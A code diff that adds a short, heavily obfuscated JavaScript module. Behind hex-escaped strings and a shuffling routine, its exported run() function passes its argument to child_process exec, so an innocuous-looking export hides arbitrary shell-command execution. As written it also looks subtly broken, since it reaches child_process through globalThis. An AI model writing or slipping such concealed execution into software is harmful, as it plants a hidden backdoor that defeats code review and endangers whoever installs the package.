@@ -1,0 +1,16 @@
+const _0x4f2a = ["\x6c\x6f\x67", "\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73", "\x65\x78\x65\x63", "\x70\x75\x73\x68", "\x73\x68\x69\x66\x74"];
+(function (_0x1b3c, _0x2d4e) {
+  const _0x5a6b = function (_0x7c8d) {
+    while (--_0x7c8d) {
+      _0x1b3c[_0x4f2a[3]](_0x1b3c[_0x4f2a[4]]());
+    }
+  };
+  _0x5a6b(++_0x2d4e);
+})(_0x4f2a, 0x5);
+const _0x9e0f = function (_0xa1b2, _0xc3d4) {
+  _0xa1b2 = _0xa1b2 - 0x0;
+  return _0x4f2a[_0xa1b2];
+};
+export function run(_0xe5f6) {
+  return globalThis[_0x9e0f("0x1")][_0x9e0f("0x2")](_0xe5f6);
+}
